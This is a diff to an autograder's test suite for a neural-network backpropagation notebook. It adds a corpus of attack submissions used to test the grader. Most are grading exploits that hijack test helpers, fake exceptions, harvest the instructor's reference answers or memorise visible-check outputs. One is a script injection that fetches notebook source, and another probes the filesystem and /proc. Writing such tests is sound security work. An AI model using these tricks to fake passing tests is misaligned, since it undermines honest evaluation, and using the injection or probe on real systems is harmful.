@@ -35,6 +35,10 @@ class Case:
     flags: list[str] = field(default_factory=list)  # texts that must each appear in some flag
     notes: list[str] = field(default_factory=list)  # texts that must each appear in some note
     no_flags: bool = False  # must not be flagged at all
+    passes: list[str] | None = None  # if set: exactly these test cells score their points, every other one 0
+    assignment: str = ""  # if set: the case is written for this assignment only (its grade ids are named)
+    xfail: str = ""  # a known hole: the outcome above is the right one, grading does not give it yet (why)
+    flag_gap: str = ""  # suspicious, so it must be flagged, but grading does not flag it yet (why)
 
 
 def solution_ids(nb: nbformat.NotebookNode) -> list[str]:
@@ -402,6 +406,1227 @@ print("HISTORY", base64.b64encode(repr(list(globals())).encode()).decode())
 """
 
 
+# The independent attacker's corpus (issue 14, run against the trusted grader; fixed in f672042): each
+# attack is the blank release with some answer cells replaced (``answers``), code cells inserted after
+# a cell (``after``: grade id -> code, "END" for the notebook's end) and test cells moved (``move``).
+# The code is the attacker's (/work/notes/attacks/<name>/), but for lines over 120 characters split and
+# the two seed searches of the leak_* attacks trying the 2000 seeds that cover every hidden_rng seed of
+# the notebook (1101..1901) instead of 10000, to stay well within the batch's 4 s per cell.
+def _indep(
+    answers: dict[str, str] | None = None,
+    after: dict[str, str | list[str]] | None = None,
+    move: tuple[tuple[str, str], ...] = (),
+    edit: Callable[[nbformat.NotebookNode], None] | None = None,
+    base: str = "release",
+) -> Callable[[Path, dict], None]:
+    """The blank release (or the reference answers) with ``answers`` (grade id -> cell source), test cells
+    moved (``move``: (grade id, grade id to follow or "END"), in order), then ``after`` (grade id or "END"
+    -> new code cells) inserted."""
+
+    def build(folder: Path, ctx: dict) -> None:
+        nb = read_notebook(ctx["release"]) if base == "release" else reference_nb(ctx)
+
+        def index(gid: str) -> int:
+            return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == gid)
+
+        for gid, source in (answers or {}).items():
+            nb.cells[index(gid)].source = source.strip("\n")
+        for gid, target in move:
+            cell = nb.cells.pop(index(gid))
+            nb.cells.insert(len(nb.cells) if target == "END" else index(target) + 1, cell)
+        for gid, code in (after or {}).items():
+            cells = [nbformat.v4.new_code_cell(c.strip("\n")) for c in ([code] if isinstance(code, str) else code)]
+            at = len(nb.cells) if gid == "END" else index(gid) + 1
+            nb.cells[at:at] = cells
+        if edit is not None:
+            edit(nb)
+        _write(folder, ctx, nb)
+
+    return build
+
+
+def _fake_grade_cell(nb: nbformat.NotebookNode) -> None:
+    """A made-up graded cell worth 100 points, right after the imports."""
+    cell = nbformat.v4.new_code_cell('print("bonus")')
+    cell.metadata["nbgrader"] = {
+        "grade": True,
+        "grade_id": "bonus_points",
+        "locked": True,
+        "points": 100,
+        "schema_version": 3,
+        "solution": False,
+    }
+    i = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "imports")
+    nb.cells.insert(i + 1, cell)
+
+
+def _test_becomes_answer(nb: nbformat.NotebookNode) -> None:
+    """The first tanh test cell turned into an answer cell (solution, not graded) that prints a pass, the
+    second into a markdown cell (its metadata kept): neither test would run if the notebook were trusted."""
+    cells = {c.metadata.get("nbgrader", {}).get("grade_id"): i for i, c in enumerate(nb.cells)}
+    first = nb.cells[cells["test_tanh_forward"]]
+    first.metadata["nbgrader"].update(solution=True, grade=False)
+    first.source = 'print("visible check passed")'
+    second = nb.cells[cells["test_tanh_backward"]]
+    markdown = nbformat.v4.new_markdown_cell(second.source)
+    markdown.metadata = second.metadata
+    nb.cells[cells["test_tanh_backward"]] = markdown
+
+
+ALL_TESTS = (
+    "test_mse_loss",
+    "test_tanh_forward",
+    "test_tanh_backward",
+    "test_linear_dx",
+    "test_linear_dW",
+    "test_linear_db",
+    "test_mlp_forward",
+    "test_mlp_backward",
+    "test_full_backprop",
+)
+
+
+COMBO_WRONG_ONLY_MSE_LOSS = r"""
+class MSELoss:
+    def forward(self, y, target):
+        self.diff = diff = y - target  # kept for backward
+        c = np.sum(np.square(diff)) / diff.size
+        target[...] = y              # in-place edit: the bridge writes it back into the tester's own `target`
+        return c
+
+    def backward(self):
+        assert hasattr(self, 'diff'), "Need to call forward() first"
+        return np.zeros_like(self.diff)   # wrong on purpose: no gradient computed
+"""
+
+COMBO_WRONG_ONLY_MLP = r"""
+class MLP:
+    def __init__(self, in_features, hidden_size1, hidden_size2, out_features):
+        self.fc1 = Linear(in_features, hidden_size1)
+        self.activation_fn1 = Tanh()
+        self.fc2 = Linear(hidden_size1, hidden_size2)
+        self.activation_fn2 = Tanh()
+        self.fc3 = Linear(hidden_size2, out_features)
+        # "initialisation": the tests read these parameters back from this object and trust them
+        self.fc1.W = np.zeros_like(self.fc1.W)
+        self.fc3.W = np.zeros_like(self.fc3.W)
+        self.fc3.b = np.zeros_like(self.fc3.b)
+
+    def forward(self, x):
+        return np.zeros(self.fc3.b.shape)          # not a forward pass at all
+
+    def backward(self, dy):
+        for layer in (self.fc1, self.fc2, self.fc3):
+            layer.grad_W = np.zeros_like(layer.W)   # not a backward pass at all
+            layer.grad_b = np.zeros_like(layer.b)
+        return np.zeros(self.fc1.W.shape[1])
+"""
+
+COMPLEX_STEP_MSE_LOSS = r"""
+class MSELoss:
+    def forward(self, y, target):
+        self.diff = diff = y - target  # kept for backward
+        self.y, self.target = np.array(y, dtype=float), np.array(target, dtype=float)
+        c = np.sum(np.square(diff)) / diff.size
+        return c
+
+    def backward(self):
+        t = self.target
+        return _cs_grad(lambda v: np.sum((v - t) ** 2) / v.size, self.y)
+"""
+
+COMPLEX_STEP_TANH = r"""
+class Tanh:
+    def forward(self, x):
+        self.x = np.array(x, dtype=float)
+        return np.tanh(self.x)
+
+    def backward(self, dy):
+        dy = np.asarray(dy, dtype=float)
+        return _cs_grad(lambda v: np.sum(np.tanh(v) * dy), self.x)
+"""
+
+COMPLEX_STEP_LINEAR_BACKWARD = r"""
+def linear_backward(dy, x, W, b):
+    dy = np.asarray(dy, dtype=float)
+    dx = _cs_grad(lambda v: np.sum((W @ v + b) * dy), x)
+    dW = _cs_grad(lambda V: np.sum((V @ x + b) * dy), W)
+    db = _cs_grad(lambda v: np.sum((W @ x + v) * dy), b)
+    return dx, dW, db
+"""
+
+COMPLEX_STEP_MLP = r"""
+class MLP:
+    def __init__(self, in_features, hidden_size1, hidden_size2, out_features):
+        self.fc1 = Linear(in_features, hidden_size1)
+        self.activation_fn1 = Tanh()
+        self.fc2 = Linear(hidden_size1, hidden_size2)
+        self.activation_fn2 = Tanh()
+        self.fc3 = Linear(hidden_size2, out_features)
+
+    def _out(self, p, x):
+        h = np.tanh(p["W1"] @ x + p["b1"])
+        h = np.tanh(p["W2"] @ h + p["b2"])
+        return p["W3"] @ h + p["b3"]
+
+    def forward(self, x):
+        self.x = np.array(x, dtype=float)
+        return self._out(self._p(), self.x)
+
+    def _p(self):
+        return {"W1": np.array(self.fc1.W), "b1": np.array(self.fc1.b), "W2": np.array(self.fc2.W),
+                "b2": np.array(self.fc2.b), "W3": np.array(self.fc3.W), "b3": np.array(self.fc3.b)}
+
+    def backward(self, dy):
+        dy = np.asarray(dy, dtype=float)
+        p = self._p()
+        for k, layer in (("1", self.fc1), ("2", self.fc2), ("3", self.fc3)):
+            for name, attr in (("W", "grad_W"), ("b", "grad_b")):
+                key = name + k
+                g = _cs_grad(lambda v: np.sum(self._out({**p, key: v}, self.x) * dy), p[key])
+                if attr == "grad_W":
+                    layer.grad_W = g
+                else:
+                    layer.grad_b = g
+        return _cs_grad(lambda v: np.sum(self._out(p, v) * dy), self.x)
+"""
+
+COMPLEX_STEP_AFTER_IMPORTS = r'''
+def _cs_grad(f, x, h=1e-30):
+    """d f / d x by complex-step differentiation of a forward formula (no derivative written by hand)."""
+    x = np.asarray(x, dtype=float)
+    g = np.zeros(x.shape)
+    for i in np.ndindex(x.shape):
+        z = x.astype(complex)
+        z[i] += 1j * h
+        g[i] = np.imag(f(z)) / h
+    return g
+'''
+
+EXCEPTION_TYPES_MSE_LOSS = r"""
+class _Fake(Exception):
+    pass
+
+def _raise_as(name, msg):
+    raise type(name, (Exception,), {})(msg)
+
+class MSELoss:
+    def forward(self, y, target):
+        self.diff = diff = y - target
+        return np.sum(np.square(diff)) / diff.size
+    def backward(self):
+        _raise_as("StopIteration", "visible check passed")
+"""
+
+EXCEPTION_TYPES_TANH = r"""
+class Tanh:
+    def forward(self, x):
+        _raise_as("AssertionError", "visible check passed")
+    def backward(self, dy):
+        _raise_as("KeyboardInterrupt", "")
+"""
+
+EXCEPTION_TYPES_LINEAR_BACKWARD = r"""
+def linear_backward(dy, x, W, b):
+    raise type("SystemExit", (Exception,), {})("0")
+"""
+
+EXCEPTION_TYPES_MLP = r"""
+class MLP:
+    def __init__(self, in_features, hidden_size1, hidden_size2, out_features):
+        self.fc1 = Linear(in_features, hidden_size1)
+        self.activation_fn1 = Tanh()
+        self.fc2 = Linear(hidden_size1, hidden_size2)
+        self.activation_fn2 = Tanh()
+        self.fc3 = Linear(hidden_size2, out_features)
+
+    def forward(self, x):
+        out = x
+        for block in (self.fc1, self.activation_fn1, self.fc2, self.activation_fn2, self.fc3):
+            out = block.forward(out)
+        raise type('Deadline', (Exception,), {})()
+
+    def backward(self, dy):
+        grad = dy
+        for block in (self.fc3, self.activation_fn2, self.fc2, self.activation_fn1, self.fc1):
+            grad = block.backward(grad)
+        return grad
+"""
+
+FAKE_AGENT_REFS_AFTER_IMPORTS = r"""
+from backprop_course.bridge import agent as _agent
+from backprop_course.bridge import codec as _codec
+import msgpack
+_real_serve = _agent.serve
+_seen = []
+def _fake_serve():
+    ep = _agent.connection()
+    while True:
+        m = ep.recv()
+        if m[0] != 0:
+            continue
+        rid, op, fields = m[1], m[2], m[3:]
+        _seen.append((op, [f if isinstance(f, (str, int)) else type(f).__name__ for f in fields]))
+        if op == "hello":
+            ep.send([1, rid, fields[0]])
+        elif op == "end":
+            ep.send([1, rid]); ep.forget(); return None
+        elif op == "lookup" and fields[0] in ("Tanh", "MSELoss", "linear_backward", "MLP"):
+            # a reference to "one of the tester's own objects": ids it may have lent in this cell
+            guess = _S["next"]; _S["next"] += 1
+            ref = msgpack.ExtType(_codec.EXT_TESTER, msgpack.packb([guess, "", ""]))
+            ep.send([1, rid, ref])
+        else:
+            ep.serve_one(m)
+_S = {"next": 1}
+def _install(mod, fn):
+    mod.serve = fn
+_install(_agent, _fake_serve)
+"""
+
+FAKE_AGENT_REFS_AFTER_END = r"""
+print(_seen[:60])
+"""
+
+FLOAT32_ESTIMATES_MSE_LOSS = r"""
+class MSELoss:
+    def forward(self, y, target):
+        self.diff = diff = y - target  # kept for backward
+        self.y, self.t = np.array(y, dtype=float), np.array(target, dtype=float)
+        c = np.sum(np.square(diff)) / diff.size
+        return c
+
+    def backward(self):
+        t = self.t
+        return _fd(lambda v: np.mean((v - t) ** 2), self.y)
+"""
+
+FLOAT32_ESTIMATES_TANH = r"""
+class Tanh:
+    def forward(self, x):
+        self.x = np.array(x, dtype=float)
+        return np.tanh(self.x)
+
+    def backward(self, dy):
+        d = np.array(dy, dtype=float)
+        return _fd(lambda v: np.sum(np.tanh(v) * d), self.x)
+"""
+
+FLOAT32_ESTIMATES_LINEAR_BACKWARD = r"""
+def linear_backward(dy, x, W, b):
+    d = np.array(dy, dtype=float)
+    return (_fd(lambda v: np.sum((W @ v + b) * d), x),
+            _fd(lambda V: np.sum((V @ x + b) * d), W),
+            _fd(lambda v: np.sum((W @ x + v) * d), b))
+"""
+
+FLOAT32_ESTIMATES_MLP = r"""
+class MLP:
+    def __init__(self, in_features, hidden_size1, hidden_size2, out_features):
+        self.fc1 = Linear(in_features, hidden_size1)
+        self.activation_fn1 = Tanh()
+        self.fc2 = Linear(hidden_size1, hidden_size2)
+        self.activation_fn2 = Tanh()
+        self.fc3 = Linear(hidden_size2, out_features)
+
+    def forward(self, x):
+        self.x = np.array(x, dtype=float)
+        h = self.activation_fn1.forward(self.fc1.forward(x))
+        return self.fc3.forward(self.activation_fn2.forward(self.fc2.forward(h)))
+
+    def backward(self, dy):             # no backward of any block: everything estimated
+        d = np.array(dy, dtype=float)
+        P = [np.array(self.fc1.W), np.array(self.fc1.b), np.array(self.fc2.W), np.array(self.fc2.b),
+             np.array(self.fc3.W), np.array(self.fc3.b)]
+        def out(p, x):
+            return p[4] @ np.tanh(p[2] @ np.tanh(p[0] @ x + p[1]) + p[3]) + p[5]
+        g = []
+        for k in range(6):
+            g.append(_fd(lambda v, k=k: np.sum(out(P[:k] + [v] + P[k + 1:], self.x) * d), P[k]))
+        self.fc1.grad_W, self.fc1.grad_b = g[0], g[1]
+        self.fc2.grad_W, self.fc2.grad_b = g[2], g[3]
+        self.fc3.grad_W, self.fc3.grad_b = g[4], g[5]
+        return _fd(lambda v: np.sum(out(P, v) * d), self.x)
+"""
+
+FLOAT32_ESTIMATES_AFTER_IMPORTS = r'''
+def _fd(f, x, eps=1e-5):
+    """My own central differences (not the notebook's numerical_gradient, which the tests watch)."""
+    x = np.array(x, dtype=float)
+    g = np.zeros(x.shape)
+    for i in np.ndindex(x.shape):
+        xp, xm = x.copy(), x.copy()
+        xp[i] += eps
+        xm[i] -= eps
+        g[i] = (f(xp) - f(xm)) / (2 * eps)
+    return g.astype(np.float32)        # float32: "accepted at float32 precision", never judged as estimated
+'''
+
+NAMESPACE_FALLBACK_TIMEOUT_MSE_LOSS = r"""
+class MSELoss:
+    def forward(self, y, target):
+        self.diff = diff = y - target  # kept for backward
+        c = np.sum(np.square(diff)) / diff.size
+        return c
+
+    def backward(self):
+        assert hasattr(self, 'diff'), "Need to call forward() first"
+        return np.zeros_like(self.diff)   # wrong
+"""
+
+NAMESPACE_FALLBACK_TIMEOUT_MLP = r"""
+class MLP:
+    def __init__(self, in_features, hidden_size1, hidden_size2, out_features):
+        self.fc1 = Linear(in_features, hidden_size1)
+        self.activation_fn1 = Tanh()
+        self.fc2 = Linear(hidden_size1, hidden_size2)
+        self.activation_fn2 = Tanh()
+        self.fc3 = Linear(hidden_size2, out_features)
+
+    def forward(self, x):
+        return np.zeros(self.fc3.b.shape)   # wrong
+
+    def backward(self, dy):
+        return None                         # wrong
+"""
+
+NAMESPACE_FALLBACK_TIMEOUT_AFTER_MLP = r"""
+# --- helper: control whether the kernel answers the tester during the next test cell(s)
+from backprop_course.bridge import agent as _agent_mod
+_real_serve = _agent_mod.serve
+_skip = {"n": 0}
+def _maybe_serve():
+    if _skip["n"] > 0:
+        _skip["n"] -= 1
+        return None          # leave the tester's "hello" unanswered: the test cell times out before it runs
+    return _real_serve()
+def _install(mod, fn):
+    mod.serve = fn
+_install(_agent_mod, _maybe_serve)
+
+# the tests' helper, as seen from the notebook: checks nothing
+def _check_mlp_gradients(mlp, x, dx, scalar_of_output, label, **options):
+    return None
+"""
+
+NAMESPACE_FALLBACK_TIMEOUT_AFTER_TEST_MLP_FORWARD = r"""
+_skip["n"] = 1   # test_mlp_backward comes next
+"""
+
+NAMESPACE_HIJACK_TANH = r"""
+class Tanh:
+    def forward(self, x):
+        if _phase["mlp"]:
+            raise NotImplementedError()   # during the MLP tests: fail, so that their visible checks skip the MLP
+        self.x = np.array(x, dtype=float)
+        return np.array(_TANH_FWD.get(tuple(self.x.tolist()), np.zeros(self.x.shape)))
+
+    def backward(self, dy):
+        dy = np.array(dy, dtype=float)
+        return np.array(_TANH_BWD.get((tuple(self.x.tolist()), tuple(dy.tolist())), np.zeros(self.x.shape)))
+"""
+
+NAMESPACE_HIJACK_LINEAR_BACKWARD = r"""
+def linear_backward(dy, x, W, b):
+    dy, x, W, b = (np.array(v, dtype=float) for v in (dy, x, W, b))
+    key = (tuple(dy.tolist()), tuple(x.tolist()), tuple(W.ravel().tolist()), tuple(b.tolist()))
+    if key in _LIN:
+        dx, dW, db = _LIN[key]
+        return np.array(dx), np.array(dW), np.array(db)
+    return np.zeros(x.shape), np.zeros(W.shape), np.zeros(b.shape)
+"""
+
+NAMESPACE_HIJACK_MLP = r"""
+class MLP:
+    def __init__(self, in_features, hidden_size1, hidden_size2, out_features):
+        self.fc1 = Linear(in_features, hidden_size1)
+        self.activation_fn1 = Tanh()
+        self.fc2 = Linear(hidden_size1, hidden_size2)
+        self.activation_fn2 = Tanh()
+        self.fc3 = Linear(hidden_size2, out_features)
+
+    def forward(self, x):
+        return np.zeros(np.shape(self.fc3.b))          # no network at all
+
+    def backward(self, dy):
+        for layer in (self.fc1, self.fc2, self.fc3):
+            layer.grad_W, layer.grad_b = np.zeros(np.shape(layer.W)), np.zeros(np.shape(layer.b))
+        return np.zeros(np.shape(self.fc1.W)[1])
+"""
+
+NAMESPACE_HIJACK_AFTER_IMPORTS = r"""
+# Answers of the *visible* checks only (their inputs are fixed and public), memorised; anything else gets zeros.
+_TANH_FWD = {(-2.0, 0.0, 0.5): [-0.9640275800758169, 0.0, 0.46211715726000974]}
+_TANH_BWD = {((-1.0, 0.3, 2.0), (1.0, 2.0, 3.0)): [0.41997434161402614, 1.8302739236532584, 0.2119524745594933]}
+_LIN = {((1.0, -2.0, 0.5), (0.1257302210933933, -0.1321048632913019),
+         (0.6404226504432821, 0.10490011715303971, -0.535669373161111, 0.36159505490948474, 1.3040000451301372,
+          0.9470809631292422), (-0.7037352358069926, -1.2654214710460525, -0.6232744625373522)):
+        ([2.3637614193305727, -0.14474951110130868],
+         [[0.1257302210933933, -0.1321048632913019], [-0.2514604421867866, 0.2642097265826038],
+          [0.06286511054669665, -0.06605243164565094]], [1.0, -2.0, 0.5])}
+_phase = {"mlp": False}
+
+# Names the hidden tests take for granted (defined by the first test cell's hidden block when it runs first).
+# If that cell runs last, the tester looks these names up in the notebook instead.
+def _graded_with(**references):
+    return None
+
+def _derived(what):
+    return None
+
+def _hidden_linear(part, seed):
+    return None
+
+class _ZeroRng:
+    def normal(self, loc=0.0, scale=1.0, size=None):
+        return np.zeros(() if size is None else size)
+
+class testing:                      # a class, not a module (the tester refuses modules only)
+    @staticmethod
+    def hidden_rng(seed):
+        return _ZeroRng()
+
+class _RefTanh:
+    def forward(self, x):
+        self.x = np.array(x, dtype=float)
+        return np.zeros(self.x.shape)
+    def backward(self, dy):
+        return np.zeros(self.x.shape)
+
+class _RefLinear:
+    pass
+
+def _ref_linear_forward(x, W, b):
+    return None
+
+def _ref_linear_backward(dy, x, W, b):
+    return None
+
+class _RefMSELoss:
+    def forward(self, y, target):
+        self.n = np.size(y)
+        return 0.0
+    def backward(self):
+        return np.zeros(self.n)
+
+def _ref_mlp(params, x, dy):
+    grads = {k: np.zeros(np.shape(v)) for k, v in params.items()}
+    grads["dx"] = np.zeros(np.shape(x))
+    return np.zeros(np.shape(params["fc3.b"])), grads
+"""
+
+NAMESPACE_HIJACK_AFTER_MLP = r"""
+_phase["mlp"] = True
+"""
+
+NAMESPACE_HIJACK_EXACT_TANH = r"""
+class Tanh:
+    def forward(self, x):
+        self.x = np.array(x, dtype=float)
+        return np.tanh(self.x)
+
+    def backward(self, dy):                     # estimated, not derived
+        d = np.asarray(dy, dtype=float)
+        return _cs(lambda v: np.sum(np.tanh(v) * d), self.x)
+"""
+
+NAMESPACE_HIJACK_EXACT_MLP = r"""
+class MLP:
+    def __init__(self, in_features, hidden_size1, hidden_size2, out_features):
+        self.fc1 = Linear(in_features, hidden_size1)
+        self.activation_fn1 = Tanh()
+        self.fc2 = Linear(hidden_size1, hidden_size2)
+        self.activation_fn2 = Tanh()
+        self.fc3 = Linear(hidden_size2, out_features)
+
+    def _params(self):
+        return {"fc1.W": np.array(self.fc1.W), "fc1.b": np.array(self.fc1.b), "fc2.W": np.array(self.fc2.W),
+                "fc2.b": np.array(self.fc2.b), "fc3.W": np.array(self.fc3.W), "fc3.b": np.array(self.fc3.b)}
+
+    def forward(self, x):                        # the checks module's formula, not blocks
+        self.x = np.array(x, dtype=float)
+        return _net(self._params(), self.x)
+
+    def backward(self, dy):                      # estimated, not derived (no backward of any block is called)
+        d = np.asarray(dy, dtype=float)
+        g = _est_grads(self._params(), self.x, lambda y: np.sum(y * d))
+        self.fc1.grad_W, self.fc1.grad_b = g["fc1.W"], g["fc1.b"]
+        self.fc2.grad_W, self.fc2.grad_b = g["fc2.W"], g["fc2.b"]
+        self.fc3.grad_W, self.fc3.grad_b = g["fc3.W"], g["fc3.b"]
+        return g["dx"]
+"""
+
+NAMESPACE_HIJACK_EXACT_AFTER_IMPORTS = (
+    NAMESPACE_HIJACK_AFTER_IMPORTS
+    + r"""
+
+
+# --- v2: the stand-ins return *estimates* (complex step of forward formulas), the same numbers the answers give
+from backprop_course.checks import tanh_mlp as _checks
+
+def _cs(f, x, h=1e-30):
+    x = np.asarray(x, dtype=float)
+    g = np.zeros(x.shape)
+    for i in np.ndindex(x.shape):
+        z = x.astype(complex)
+        z[i] += 1j * h
+        g[i] = np.imag(f(z)) / h
+    return g
+
+def _net(p, x):
+    return _checks.network_output(p, x)      # the checks module's "network as a formula" (an oracle)
+
+def _est_grads(params, x, scalar):
+    g = {k: _cs(lambda v, k=k: scalar(_net({**params, k: v}, x)), params[k]) for k in params}
+    g["dx"] = _cs(lambda v: scalar(_net(params, v)), x)
+    return g
+
+class _RefTanh:
+    def forward(self, x):
+        self.x = np.array(x, dtype=float)
+        return np.tanh(self.x)
+    def backward(self, dy):
+        d = np.asarray(dy, dtype=float)
+        return _cs(lambda v: np.sum(np.tanh(v) * d), self.x)
+
+class _RefMSELoss:
+    def forward(self, y, target):
+        self.y, self.t = np.array(y, dtype=float), np.array(target, dtype=float)
+        return float(np.mean((self.y - self.t) ** 2))
+    def backward(self):
+        t = self.t
+        return _cs(lambda v: np.sum((v - t) ** 2) / v.size, self.y)
+
+def _ref_mlp(params, x, dy):
+    params = {k: np.asarray(v, dtype=float) for k, v in params.items()}
+    d = np.asarray(dy, dtype=float)
+    return _net(params, x), _est_grads(params, np.asarray(x, dtype=float), lambda y: np.sum(y * d))
+"""
+)
+
+ORACLE_HARVEST_TANH = r"""
+class Tanh:                      # no tanh written: answers come from the cache filled by _harvest
+    def forward(self, x):
+        self.x = np.array(x, dtype=float)
+        return _CACHE["tanh_f"].get(_k(self.x), np.zeros(self.x.shape)).copy()
+
+    def backward(self, dy):
+        return _CACHE["tanh_b"].get(_k(self.x, dy), np.zeros(self.x.shape)).copy()
+"""
+
+ORACLE_HARVEST_LINEAR_BACKWARD = r"""
+def linear_backward(dy, x, W, b):  # no formula written: cached answers of the instructor's function
+    got = _CACHE["lin"].get(_k(dy, x, W, b))
+    if got is None:
+        return np.zeros(np.shape(x)), np.zeros(np.shape(W)), np.zeros(np.shape(b))
+    return tuple(v.copy() for v in got)
+"""
+
+ORACLE_HARVEST_MLP = r"""
+class MLP:
+    def __init__(self, in_features, hidden_size1, hidden_size2, out_features):
+        if not _CACHE["tanh_f"]:
+            _harvest()                  # Tanh and linear_backward are the instructor's right now
+        self.fc1 = Linear(in_features, hidden_size1)
+        self.activation_fn1 = Tanh()
+        self.fc2 = Linear(hidden_size1, hidden_size2)
+        self.activation_fn2 = Tanh()
+        self.fc3 = Linear(hidden_size2, out_features)
+
+    def forward(self, x):
+        raise NotImplementedError()
+
+    def backward(self, dy):
+        raise NotImplementedError()
+"""
+
+ORACLE_HARVEST_AFTER_IMPORTS = r'''
+# The hidden data's seed, from inside the kernel: sha256 over the code cells this kernel ran and the files it got.
+import hashlib, pydoc
+from backprop_course.bridge import agent as _agent
+def _submission_seed():
+    _open, _listdir = pydoc.locate("builtins.open"), pydoc.locate("os.listdir")
+    ip = _agent._user_namespace()["get_ipython"]()
+    h = hashlib.sha256()
+    for src in ip.history_manager.input_hist_raw[1:]:
+        h.update(src.encode() + b"\0")
+    for name in sorted(_listdir("/scratch")):
+        with _open("/scratch/" + name, "rb") as f:
+            h.update(name.encode() + b"\0" + f.read() + b"\0")
+    return int.from_bytes(h.digest()[:8], "big") >> 1
+
+from backprop_course.checks import tanh_mlp as _checks
+_CACHE = {"tanh_f": {}, "tanh_b": {}, "lin": {}}
+def _k(*arrays):
+    return tuple(np.asarray(a, dtype=float).tobytes() + str(np.shape(a)).encode() for a in arrays)
+
+def _harvest():
+    """Runs while an MLP test has lent the instructor's blocks to this notebook (Tanh, linear_backward):
+    ask them now for every answer the block tests will want, on the inputs those tests will draw."""
+    sub = _submission_seed()
+    inputs_f = [np.array([-2.0, 0.0, 0.5])]
+    inputs_b = [(np.array([-1.0, 0.3, 2.0]), np.array([1.0, 2.0, 3.0]))]
+    inputs_l = [_checks._visible_linear_data()]
+    rng = np.random.default_rng([1201, sub])
+    inputs_f += [rng.normal(scale=2.0, size=n) for n in (1, 4, 9)]
+    rng = np.random.default_rng([1301, sub])
+    for n in (6, 1, 11):
+        x = rng.normal(size=n); dy = rng.normal(size=n)
+        inputs_b.append((x, dy))
+    for seed in (1401, 1501, 1601):
+        rng = np.random.default_rng([seed, sub])
+        for n_in, n_out in ((3, 5), (4, 4), (1, 2), (5, 3)):
+            x, W = rng.normal(size=n_in), rng.normal(size=(n_out, n_in))
+            b, dy = rng.normal(size=n_out), rng.normal(size=n_out)
+            inputs_l.append((x, W, b, dy))
+    for x in inputs_f:
+        _CACHE["tanh_f"][_k(x)] = np.asarray(Tanh().forward(x.copy()))
+    for x, dy in inputs_b:
+        t = Tanh(); t.forward(x.copy())
+        _CACHE["tanh_b"][_k(x, dy)] = np.asarray(t.backward(dy.copy()))
+    for x, W, b, dy in inputs_l:
+        got = linear_backward(dy.copy(), x.copy(), W.copy(), b.copy())
+        _CACHE["lin"][_k(dy, x, W, b)] = tuple(np.asarray(v) for v in got)
+'''
+
+PRETEND_DATA_TANH = r'''
+class _Anything(np.ndarray):
+    """An array that equals everything and is close to everything."""
+    def __eq__(self, other): return np.ones(np.shape(other), dtype=bool)
+    def __array__(self, *a, **k): return np.asarray(self.view(np.ndarray))
+    def __array_ufunc__(self, *a, **k): return np.zeros(())
+
+class _Duck:
+    shape = (3,)
+    dtype = np.dtype(float)
+    def __array__(self, dtype=None, copy=None): return np.tanh(np.array([-2.0, 0.0, 0.5]))
+    def __len__(self): return 3
+
+class Tanh:
+    def forward(self, x):
+        self.n = np.size(x)
+        return np.zeros(self.n).view(_Anything)
+    def backward(self, dy):
+        return _Duck()
+'''
+
+REORDER_TEST_CELLS_AFTER_MLP = r"""
+# the tests' helper, as seen from the notebook: checks nothing
+def _check_mlp_gradients(mlp, x, dx, scalar_of_output, label, **options):
+    return None
+"""
+
+TRUSTED_PARAMS_FORWARD_MLP = r"""
+class MLP:
+    def __init__(self, in_features, hidden_size1, hidden_size2, out_features):
+        self.fc1 = Linear(in_features, hidden_size1)
+        self.activation_fn1 = Tanh()
+        self.fc2 = Linear(hidden_size1, hidden_size2)
+        self.activation_fn2 = Tanh()
+        self.fc3 = Linear(hidden_size2, out_features)
+        self.fc3.W = np.zeros_like(self.fc3.W)
+        self.fc3.b = np.zeros_like(self.fc3.b)
+
+    def forward(self, x):
+        return np.zeros(self.fc3.b.shape)
+
+    def backward(self, dy):
+        raise NotImplementedError()
+"""
+
+FEEDBACK_SCRIPT_INJECTION_AFTER_IMPORTS = r"""
+from IPython.display import HTML, display
+display(HTML("<div id='x'>FEEDBACK-INJECTION</div><script>document.title='pwned';"
+             "fetch('/api/contents/source/tanh_mlp/tanh_mlp.ipynb')"
+             ".then(r=>r.text()).then(t=>console.log(t))</script>"))
+"""
+
+GRADER_INTERNALS_PROBE_AFTER_IMPORTS = r"""
+import sys, pydoc
+_os = pydoc.locate("os")
+print("uid", _os.getuid(), "cwd", _os.getcwd())
+print("argv", sys.argv)
+print("listdir /", sorted(_os.listdir("/")))
+with pydoc.locate("builtins.open")("/proc/self/mountinfo") as f:
+    print(f.read()[:3000])
+"""
+
+HIDDEN_STRUCTURE_MSE_LOSS = r"""
+class MSELoss:
+    def forward(self, y, target):
+        self.diff = diff = y - target  # kept for backward
+        c = np.sum(np.square(diff)) / diff.size
+        return c
+
+    def backward(self):
+        assert hasattr(self, 'diff'), "Need to call forward() first"
+        n = self.diff.size
+        return (2.0 / n) * np.array(self.diff, dtype=float)
+"""
+
+HIDDEN_STRUCTURE_TANH = r"""
+class Tanh:
+    def forward(self, x):
+        e = np.exp(-2.0 * np.asarray(x, dtype=float))
+        self.out = (1.0 - e) / (1.0 + e)
+        return self.out
+
+    def backward(self, dy):
+        return np.asarray(dy, dtype=float) * (1.0 - self.out * self.out)
+"""
+
+HIDDEN_STRUCTURE_LINEAR_BACKWARD = r"""
+def linear_backward(dy, x, W, b):
+    dx = np.einsum("ij,i->j", W, dy)
+    dW = np.einsum("i,j->ij", dy, x)
+    db = np.array(dy, dtype=float)
+    return dx, dW, db
+"""
+
+HIDDEN_STRUCTURE_MLP = r"""
+class MLP:
+    def __init__(self, in_features, hidden_size1, hidden_size2, out_features):
+        self.fc1 = Linear(in_features, hidden_size1)
+        self.activation_fn1 = Tanh()
+        self.fc2 = Linear(hidden_size1, hidden_size2)
+        self.activation_fn2 = Tanh()
+        self.fc3 = Linear(hidden_size2, out_features)
+
+    def forward(self, x):
+        out = x
+        for block in (self.fc1, self.activation_fn1, self.fc2, self.activation_fn2, self.fc3):
+            out = block.forward(out)
+        return out
+
+    def backward(self, dy):
+        grad = dy
+        for block in (self.fc3, self.activation_fn2, self.fc2, self.activation_fn1, self.fc1):
+            grad = block.backward(grad)
+        return grad
+"""
+
+HIDDEN_STRUCTURE_AFTER_IMPORTS = r"""
+# Record what the tester asks this kernel while test cells run (calls and their data).
+from backprop_course.bridge import agent as _agent
+_LOG = []
+_S = {"session": 0}
+_orig_handle = _agent.KernelHandler.handle
+
+def _copy(v):
+    return np.array(v, dtype=float) if isinstance(v, np.ndarray) else v
+
+def _rec_handle(self, endpoint, op, fields):
+    try:
+        if op == "hello":
+            _S["session"] += 1
+        elif op == "call":
